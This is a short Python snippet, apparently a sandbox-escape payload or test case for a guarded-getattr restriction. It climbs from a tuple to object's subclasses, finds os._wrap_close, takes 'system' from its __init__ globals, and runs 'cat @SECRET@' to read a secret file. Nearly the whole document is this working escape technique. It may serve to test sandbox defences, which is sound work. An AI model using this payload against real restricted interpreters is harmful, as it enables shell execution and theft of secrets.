# object.__getattribute__ goes round any guarded getattr.
# effect: run
root = object.__getattribute__((), "__class__").__base__
kinds = type.__getattribute__(root, "__subclasses__")()
for kind in kinds:
    if kind.__name__ == "_wrap_close":
        type.__getattribute__(kind, "__init__").__globals__["system"]("cat @SECRET@")
